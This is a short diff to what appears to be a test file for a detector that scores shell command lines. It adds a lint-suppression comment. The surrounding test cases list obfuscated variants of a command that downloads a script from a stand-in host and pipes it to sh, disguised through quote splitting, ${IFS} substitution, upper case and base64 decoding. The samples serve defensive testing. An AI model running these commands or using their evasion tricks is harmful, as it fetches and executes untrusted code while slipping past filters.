@@ -48,6 +48,7 @@ test("scores do not depend on what is scored beside a line", () => {
 
 test.each([
   ["quotes and backslashes", "c''ur\\l -s http://198.51.100.7/x.sh|s\"h\""],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell expands it, not we.
   ["${IFS} for spaces", "curl${IFS}-s$IFS$9http://198.51.100.7/x.sh|sh"],
   ["letter case", "CURL -s http://198.51.100.7/x.sh|SH"],
   ["base64", `echo ${Buffer.from("curl -s http://198.51.100.7/x.sh|sh").toString("base64")} | base64 -d | sh`],
